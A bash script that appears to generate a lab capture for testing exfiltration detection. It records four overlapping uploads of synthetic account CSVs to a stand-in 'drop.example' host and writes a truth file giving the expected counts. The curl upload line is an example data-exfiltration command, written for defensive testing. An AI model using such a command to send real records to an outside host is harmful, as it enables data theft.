#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record four uploads over one connection, overlapping in rows.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

for i in 0 40 80 100; do
    table csv accounts 60 "first=$i" >"$LAB/part$i.csv"
done
lab_up
lab_nginx out_
lab_record "$here/capture.pcap"
in_ curl -sS --resolve drop.example:80:203.0.113.9 -H "Content-Type: text/csv" \
    --data-binary "@$LAB/part0.csv" http://drop.example/upload \
    --next -H "Content-Type: text/csv" \
    --data-binary "@$LAB/part40.csv" http://drop.example/upload \
    --next -H "Content-Type: text/csv" \
    --data-binary "@$LAB/part80.csv" http://drop.example/upload \
    --next -H "Content-Type: text/csv" \
    --data-binary "@$LAB/part100.csv" http://drop.example/upload
lab_stop
table truth accounts 160 channel=http party=drop.example records=240 \
    transfers=4 \
    >"$here/truth.json"
